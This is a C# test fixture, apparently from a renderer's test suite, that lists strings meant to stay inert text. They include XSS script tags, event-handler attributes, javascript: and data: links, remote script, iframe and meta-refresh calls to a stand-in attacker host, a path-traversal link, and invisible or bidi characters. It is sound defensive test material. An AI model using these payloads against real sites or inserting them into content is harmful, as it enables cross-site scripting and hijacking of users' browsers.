namespace TuiPlans.Tests.Papers.Html;

/// <summary>Texts that would do something if they were taken for anything but text.</summary>
public static class AttackTexts
{
    public static readonly string[] All =
    [
        // Script and handlers.
        "<script>window.pwned = 1; alert(1)</script>",
        "<SCRIPT SRC=https://attack.example/x.js></SCRIPT>",
        "</p></main></body><script>window.pwned = 1</script>",
        "<img src=x onerror=\"window.pwned = 1\">",
        "<svg onload=\"window.pwned = 1\"><circle r=9></svg>",
        "<svg><script>window.pwned = 1</script></svg>",
        "<body onload=alert(1)>",
        "<a href=\"https://attack.example\" onmouseover=\"alert(1)\">look</a>",
        "\" onfocus=\"window.pwned = 1\" autofocus=\"",
        "' onclick='alert(1)' x='",
        "<iframe src=\"https://attack.example\"></iframe>",
        "<object data=\"data:text/html,x\"></object><embed src=x>",
        "<form action=\"https://attack.example\"><button>Send</button></form>",
        "<style>body { display: none }</style>",
        "<div style=\"position:fixed;inset:0;background:url(https://attack.example/x)\">over all</div>",
        "<link rel=stylesheet href=https://attack.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=https://attack.example\">",
        "<base href=\"https://attack.example/\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "</title><script>window.pwned = 1</script>",

        // Comments, sections, parts that fold.
        "<!-- hidden --><b>seen</b>",
        "<!--><script>window.pwned = 1</script>",
        "<![CDATA[ <b>x</b> ]]>",
        "<?php echo 1 ?><!DOCTYPE html>",
        "<details>\n<summary>Folded</summary>\n\nhidden\n\n</details>",
        "</details>",
        "<details open ontoggle=\"window.pwned = 1\"><summary>x</summary>",

        // Entities that would become markup.
        "&lt;script&gt;window.pwned = 1&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "&#x3C;b&#x3E; and &NewLine; and &Tab;&lbrack;x&rbrack;&lpar;javascript:alert(1)&rpar;",

        // Links and images.
        "[look](javascript:window.pwned=1)",
        "[look](JaVaScRiPt:alert(1) \"title\")",
        "[look](data:text/html;base64,PHNjcmlwdD4=)",
        "[look](https://attack.example/?a=1) and [same](//attack.example)",
        "![picture](https://attack.example/x.png)",
        "![picture](data:image/svg+xml;base64,PHN2Zy8+)",
        "[![both](https://attack.example/x.png)](https://attack.example)",
        "<https://attack.example> and <me@attack.example> and <javascript:alert(1)>",
        "https://attack.example/x, www.attack.example, ftp://attack.example and mailto:me@attack.example",
        "[x]: https://attack.example \"title\"",
        "[x][y] and [x][] and [y]\n\n[y]: javascript:alert(1)",
        "a note[^1]\n\n[^1]: https://attack.example",
        "[plan](../../../../etc/passwd.md) and [plan](README.md#sg-01)",
        "@chair, @org/team, #12, !34, GH-12 and org/project#5",

        // Markdown that would make blocks.
        "| a | b |\n| --- | --- |\n| c | d |",
        "broken | table | cell || and \\| and `|`",
        "# Heading\n## Another",
        "Heading\n=======\nAnother\n-------",
        "```mermaid\ngraph TD; A-->B; click A \"https://attack.example\"\n```",
        "~~~html\n<script>window.pwned = 1</script>\n~~~",
        "`code` ``more`` **bold** __bold__ *it* _it_ ~~gone~~ ==marked== ^up^ ~down~",
        "> quoted\n> > twice",
        "- [ ] to do\n- [x] done\n1. first\n2) second",
        "***\n---\n___",
        "$x^2$ and $$\\href{https://attack.example}{x}$$",
        "> [!WARNING]\n> not ours",
        ":smile: :::note\n{.class #id onclick=alert(1)}\n:::",

        // The language of charts.
        "click SG-01 href \"https://attack.example\"\ncrit, done, 2012-01-01, 1d",
        "%%{init: {\"securityLevel\": \"loose\"}}%% section x : y ; title z",

        // Characters that are not seen, turn the line round, or are very many.
        "turned \u202Eround\u202C \u2066again\u2069, no\u200Bwidth\u200D, soft\u00ADhyphen, \uFEFFmark",
        "■ R Red ✓ B Blue \u0001forged\u0006 \u001b[31m",
        "a\u2028b\u2029c\u0085d\u000be",
        "Zalgo z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334 and \U0001F468\u200D\U0001F469\u200D\U0001F467",
        "wide" + new string('x', 3000) + "wide",
        string.Join(' ', Enumerable.Repeat("<b>[x](y)|*_`", 200)),
        "\\<script\\>alert(1)\\</script\\> \\",
    ];
}
